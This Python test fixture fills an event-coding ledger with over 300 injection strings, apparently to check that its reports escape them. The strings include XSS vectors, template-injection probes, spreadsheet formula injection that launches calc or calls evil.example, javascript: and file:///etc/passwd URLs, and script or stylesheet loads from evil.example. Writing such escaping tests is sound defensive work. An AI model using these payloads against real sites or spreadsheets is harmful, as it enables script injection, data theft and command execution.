"""Words that would be markup, script, style, address or formula if anybody took them for it; and a ledger of them."""

from __future__ import annotations

from itertools import product

from tests.report.test_browser import PAYLOADS as OLD

from detente.actors.actor import Actor, Mention
from detente.coding.event import Amount, CodedDocument, Event, Trace
from detente.coding.statements import Claim, MechanismStatement, Prediction, Question
from detente.core.identity import content_id, record_id
from detente.core.rejections import Reason, Rejection
from detente.core.spans import Span
from detente.documents.document import Block, Document
from detente.documents.signatures import build_signature
from detente.ledger import open_ledger
from detente.ontology import intensity_of, quad_class_of
from detente.sentences.sentence import Sentence

EVIL = "https://evil.example"
BREAKERS = (
    "",
    '">',
    "'>",
    "-->",
    "]]>",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "</svg>",
    "</option>",
)
BEARERS = (
    "<img src=x onerror=boom()>",
    "<svg onload=boom()>",
    "<body onpageshow=boom()>",
    "<video src=x onerror=boom()></video>",
    "<audio src=x onerror=boom()>",
    "<input autofocus onfocus=boom()>",
    "<details open ontoggle=boom()><summary>x",
    "<marquee onstart=boom()>",
    "<iframe src=javascript:parent.boom()></iframe>",
    "<object data=javascript:boom()></object>",
    "<embed src=javascript:boom()>",
    "<x tabindex=1 onfocus=boom() autofocus>",
    "<svg><animate onbegin=boom() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:boom()><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=boom()>#x'/></svg>",
    "<svg><foreignObject><script>boom()</script></foreignObject></svg>",
    "<math><a xlink:href=javascript:boom()>x</a></math>",
    "<form><button formaction=javascript:boom() autofocus>x",
    "<script src=https://evil.example/x.js></script>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/y)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
)
MUTATING = (
    '<svg></p><style><g title="</style><img src onerror=boom()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=boom()&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=boom()>",
    "<noscript><style></noscript><img src=x onerror=boom()></style>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=boom()>'>",
    "<listing>&lt;img src=x onerror=boom()&gt;</listing>",
    "<xmp><img src=x onerror=boom()></xmp><plaintext>",
    '<a href="x`x" title="`onmouseover=boom()">',
    '<img alt="``onerror=boom() src=x">',
    "<svg><desc><![CDATA[</desc><script>boom()</script>]]></svg>",
    "<table><tr><td><table><caption><svg><style></table><img src=x onerror=boom()>",
    "<style><style/><img src=x onerror=boom()>",
)
ATTRIBUTES = tuple(
    f"x{quote} {name}={quote}boom(){quote} y={quote}"
    for quote, name in product(
        ('"', "'", "`"),
        (
            "onmouseover",
            "onfocus",
            "onclick",
            "onanimationstart",
            "onpointerenter",
            "ontransitionend",
            "autofocus onfocus",
        ),
    )
)
FRAMEWORKS = (
    "<div hx-get=https://evil.example hx-trigger=load>x</div>",
    "<div data-hx-get=https://evil.example data-hx-trigger=load>x</div>",
    "<div hx-on::load=boom()>x</div>",
    "<div hx-on:load='boom()' hx-trigger=load hx-get=/>x</div>",
    "<div hx-vals='js:{a:boom()}' hx-get=/ hx-trigger=load>x</div>",
    "<div x-data x-init=boom()>x</div>",
    "<div v-html='boom()'>x</div>",
    "<div ng-app>{{constructor.constructor('boom()')()}}</div>",
    "{{constructor.constructor('boom()')()}}",
    "${boom()}",
    "#{boom()}",
    "<%= boom() %>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{{ form_token }}{{ self._TemplateReference__context }}",
    "{#", "{% raw %}", "{%", "%}", "<!--#exec cmd='id' -->",
)  # fmt: skip
SEPARATED = (
    "\u2028</script><script>boom()</script>",
    "\u2029*/boom()/*",
    '";boom();//',
    "';boom();//",
    "\\';boom();//",
    "</script\t><script>boom()</script>",
    "<\x00script>boom()</script>",
    "<script\x0c>boom()</script>",
    "\ufeff<script>boom()</script>",
    "\u202e<script>boom()</script>\u202c",
    "\u2066\u2067\u2068<img src=x onerror=boom()>",
    "\u200b<svg\u200bonload=boom()>",
    "＜script＞boom()＜/script＞",
    "%253Cscript%253Eboom()%253C/script%253E",
    "&#60;script&#62;boom()&#60;/script&#62;",
    "&lt;img src=x onerror=boom()&gt;",
    "\\x3cscript\\x3eboom()\\x3c/script\\x3e",
    "+ADw-script+AD4-boom()+ADw-/script+AD4-",
    "<!--><script>boom()</script>",
    "--!><script>boom()</script>",
    "<![CDATA[<script>boom()</script>]]>",
    "<?xml version='1.0'?><script>boom()</script>",
    "__proto__",
    "constructor",
    "toString",
    '{"__proto__":{"boom":1}}',
    "ƒ" * 300,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
    "\ufdfd" * 40,
    "👩‍👩‍👧‍👦" * 30,
)
FORMULAS = (
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example","x")', "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1",
    "=IMPORTXML(CONCAT(https://evil.example))", " =1+1", "＝1+1", '=DDE("cmd";"/C calc";"x")', "-boom()", "+boom()",
    "@boom", '"=1+1', ",=1+1", ";=1+1", "=1\n=2", "'=1+1", "=A1|=B2",
)  # fmt: skip
URLS = (
    "javascript:boom()", "JaVaScRiPt:boom()", "java\tscript:boom()", "java\nscript:boom()", "\x01javascript:boom()",
    " javascript:boom()", "javascript&colon;boom()", "&#106;avascript:boom()", "data:text/html,<script>boom()</script>",
    "data:image/svg+xml,<svg onload=boom()>", "vbscript:boom()", "view-source:javascript:boom()", "blob:https://x/y",
    "//evil.example/x", "\\\\evil.example\\x", "https:evil.example", 'https://evil.example/"onclick="boom()',
    "https://evil.example/'onclick='boom()", "https://evil.example/</a><script>boom()</script>", "file:///etc/passwd",
    "https://user:pass@evil.example/", "http://[::1]:1/", "mailto:x@evil.example", "ftp://evil.example/x", "feed:javascript:boom()",
)  # fmt: skip

PAYLOADS = list(
    dict.fromkeys(
        [
            *OLD,
            *(breaker + bearer for breaker, bearer in product(BREAKERS, BEARERS)),
            *MUTATING,
            *ATTRIBUTES,
            *FRAMEWORKS,
            *SEPARATED,
            *FORMULAS,
            *URLS,
        ]
    )
)
"""More than 300, each its own."""
A_DOCUMENT = 14  # payloads of one article with codings
TRACE_STEPS = ("symmetric",)


def build_books(folder):
    """A ledger with every payload in titles, texts, outlets, addresses, file names, actors' names, codings and notes."""
    groups = [PAYLOADS[at : at + A_DOCUMENT] for at in range(0, len(PAYLOADS), A_DOCUMENT)]
    with open_ledger(folder) as ledger:
        with ledger.batch(most=1000, seconds=600):
            for n, payload in enumerate(PAYLOADS):
                ledger.add(
                    CodedDocument(_document(f"{payload}\n\nNothing {n}.", payload, n), (), (), (), (), ())
                )
                refused = Rejection(
                    Reason.DAMAGED, "documents", f"{payload}.pdf", payload, path=f"in/{payload}.pdf"
                )
                ledger.add_rejection(refused, path=f"in/{payload}.pdf")
            coded = [_code(group, n) for n, group in enumerate(groups)]
            for one in coded:
                ledger.add(one)
        events = [event for one in coded for event in one.events]
        for event, payload in zip(events[::7], PAYLOADS[::7], strict=False):
            if payload.strip():
                ledger.correct(event.id, "right", by=payload[:80], note=payload)
        ledger.correct(events[1].id, "edit", by="ada", changes={"place": PAYLOADS[3], "object": PAYLOADS[4]})
    return coded


def build_few(folder):
    """A ledger of one article with five payloads."""
    coded = _code(PAYLOADS[:5], 0)
    with open_ledger(folder) as ledger:
        ledger.add(coded)
    return coded


def _document(text, payload, n):
    text = _whole(text)
    return Document(
        id=content_id(text),
        name=_whole(f"{payload}.html"),
        path=_whole(f"in/{payload}.html"),
        text=text,
        blocks=(Block(0, len(text), "body"),),
        title=_whole(payload),
        published="2021-04-07",
        published_rule=_whole(payload),
        url=_whole(URLS[n % len(URLS)]),
        outlet=_whole(payload),
        language="en",
        media_type="text/html",
        original_id=content_id(text + str(n)),
        signature=build_signature(text),
    )


def _whole(text):
    return "".join(letter for letter in text if not "\ud800" <= letter <= "\udfff")


def _code(group, n):
    pieces = [_whole(f"A{k} and B{k} sign {payload} here {n}.") for k, payload in enumerate(group)]
    text = "\n\n".join(pieces)
    document = _document(text, group[n % len(group)], n)
    sentences, at = [], 0
    for index, piece in enumerate(pieces):
        sentences.append(Sentence(index, at, at + len(piece), piece, "body", index))
        at += len(piece) + 2
    actors, events, claims, predictions, questions, mechanisms, mentions, rejections = ([] for _ in range(8))
    for k, (payload, sentence) in enumerate(zip(group, sentences, strict=True)):
        word = _whole(payload)
        one, other = f"H{n}-{k}", f"I{n}-{k}"
        actors += [Actor(one, word, "state", one, ""), Actor(other, f"{word} II", word, "", word)]
        mentions.append(Mention(one, sentence.start, sentence.start + 2, sentence.text[:2], word, word))
        span = (Span(sentence.start, sentence.end, sentence.text),)
        common = {"document": document.id, "asserted_by": one, "confidence": 0.7, "evidence": span}
        trace = Trace(word, word, (word,))
        events.append(_event(document, sentence, word, (one, other), k, trace))
        name = record_id("x", document.id, k)
        if k % 3 == 0:
            claims.append(
                Claim(id=f"c{name}", dyad=(one, other), domain="overall", claim="warming", tense="present",
                      modality="asserted", trace=trace, **common)
            )  # fmt: skip
            predictions.append(
                Prediction(id=f"p{name}", statement=word, actors=(one,), modality="possible", tense="future",
                           probability=0.5, horizon="2021-09", horizon_text=word, trace=trace, **common)
            )  # fmt: skip
        if k % 3 == 1:
            questions.append(
                Question(
                    id=f"q{name}",
                    text=word,
                    dyads=((one, other),),
                    tense="future",
                    modality="questioned",
                    trace=trace,
                    **common,
                )
            )
            mechanisms.append(
                MechanismStatement(id=f"m{name}", name="rivals_tie_drives_drift", actors=tuple(sorted((one, other, f"H{n}-0"))),
                                   statement=word, tense="future", modality="questioned", trace=trace, **common)
            )  # fmt: skip
        if k % 3 == 2:
            rejections.append(
                Rejection(
                    Reason.NO_PREDICATE, "coding", word, word, document.id, sentence.start, sentence.end
                )
            )
    return CodedDocument(
        document=document,
        sentences=tuple(sentences),
        actors=tuple(actors),
        mentions=tuple(mentions),
        events=tuple(events),
        rejections=tuple(rejections),
        claims=tuple(claims),
        mechanisms=tuple(mechanisms),
        predictions=tuple(predictions),
        questions=tuple(questions),
    )


def _event(document, sentence, word, actors, k, trace):
    kind = ("AGREE", "THREATEN", "CONSULT", "SANCTION")[k % 4]
    return Event(
        id=record_id("event", document.id, kind, sentence.start),
        document=document.id,
        type=kind,
        mode=None,
        contexts=(word,),
        source=actors[:1],
        target=actors[1:],
        persons=(),
        status=("occurred", "planned", "denied")[k % 3],
        asserted_by=actors[0],
        date=("2014", "2018-08-07", None, "2020-05")[k % 4],
        date_text=word,
        place=word,
        object=word,
        project=word,
        amounts=(Amount(1.0, word, word),),
        intensity=intensity_of(kind),
        quad_class=quad_class_of(kind),
        confidence=0.2 + k / 20,
        evidence=(Span(sentence.start, sentence.end, sentence.text),),
        trace=trace,
    )
